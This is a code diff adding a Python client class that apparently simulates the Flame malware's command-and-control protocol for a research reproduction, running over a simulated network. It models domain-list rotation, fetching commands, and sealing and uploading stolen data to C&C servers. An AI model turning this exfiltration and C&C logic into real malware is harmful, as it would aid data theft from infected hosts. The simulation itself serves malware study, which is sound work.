@@ -1,0 +1,84 @@
+"""Client side of the C&C protocol.
+
+§III.B: "When a computer is infected with Flame, it uses a default
+configuration of 5 domains to contact the C&C servers. Once it
+successfully connects to a server, the list is updated to reach around
+10 domains."
+"""
+
+import json
+
+from repro.cnc.server import NEWSFORYOU, decode_package
+from repro.crypto.sealed import seal
+from repro.netsim.network import NetworkError
+
+
+class CncClient:
+    """The C&C stub embedded in an infected host's malware."""
+
+    def __init__(self, client_id, default_domains, client_type="CLIENT_TYPE_FL"):
+        self.client_id = client_id
+        self.domains = list(default_domains)
+        self.client_type = client_type
+        self.contact_count = 0
+        self.failed_contacts = 0
+        self.bytes_uploaded = 0
+        self._nonce = 0
+
+    def _try_domains(self, lan, host, send):
+        """Walk the domain list until one server answers."""
+        for domain in list(self.domains):
+            try:
+                response = send(domain)
+            except NetworkError:
+                self.failed_contacts += 1
+                continue
+            if response.ok:
+                return domain, response
+            self.failed_contacts += 1
+        return None, None
+
+    def get_news(self, lan, host):
+        """Fetch pending packages; learn new domains on success.
+
+        Returns the list of decoded package dicts (possibly empty), or
+        None when no C&C server could be reached.
+        """
+
+        def send(domain):
+            return lan.http_get(
+                host, "http://%s%s" % (domain, NEWSFORYOU),
+                params={"command": "GET_NEWS", "client_id": self.client_id,
+                        "client_type": self.client_type},
+            )
+
+        domain, response = self._try_domains(lan, host, send)
+        if response is None:
+            return None
+        self.contact_count += 1
+        payload = json.loads(response.body.decode("utf-8"))
+        for new_domain in payload.get("domains", []):
+            if new_domain not in self.domains:
+                self.domains.append(new_domain)
+        return [decode_package(p.encode("utf-8")) for p in payload.get("packages", [])]
+
+    def add_entry(self, lan, host, plaintext, coordinator_public_key):
+        """Seal and upload stolen data.  Returns True on success."""
+        self._nonce += 1
+        blob = seal(coordinator_public_key, plaintext,
+                    nonce=("%s|%d" % (self.client_id, self._nonce)).encode("ascii"))
+        wire = blob.to_bytes()
+
+        def send(domain):
+            return lan.http(
+                host, "POST", "http://%s%s" % (domain, NEWSFORYOU),
+                params={"command": "ADD_ENTRY", "client_id": self.client_id},
+                body=wire,
+            )
+
+        domain, response = self._try_domains(lan, host, send)
+        if response is None:
+            return False
+        self.contact_count += 1
+        self.bytes_uploaded += len(wire)
+        return True
